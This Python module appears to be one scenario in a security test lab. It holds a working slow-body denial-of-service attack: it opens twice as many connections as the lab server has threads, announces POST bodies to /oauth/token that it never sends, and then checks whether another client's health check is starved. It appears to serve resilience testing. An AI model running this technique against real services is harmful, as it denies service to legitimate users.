"""Announces more bodies than the service has threads, and sends none of them."""

import http.client
from contextlib import ExitStack

from lab.world import World

STORY = __doc__
LAYERS = ("request_body",)
#: Twice the threads of the lab's server.
REQUESTS = 8
PATIENCE_SECONDS = 3.0
FORM = "application/x-www-form-urlencoded"


def attack(world: World) -> bool:
    """Whether somebody else is kept waiting."""
    with ExitStack() as stack:
        for _ in range(REQUESTS):
            connection = connect(world, stack)
            connection.putrequest("POST", "/oauth/token")
            connection.putheader("Content-Type", FORM)
            connection.putheader("Content-Length", "10")
            connection.endheaders()
        somebody = connect(world, stack)
        somebody.request("GET", "/healthz")
        try:
            return somebody.getresponse().status != http.HTTPStatus.OK
        except TimeoutError:
            return True


def connect(world: World, stack: ExitStack) -> http.client.HTTPSConnection:
    connection = http.client.HTTPSConnection(
        world.host, world.port, context=world.context, timeout=PATIENCE_SECONDS
    )
    stack.callback(connection.close)
    return connection
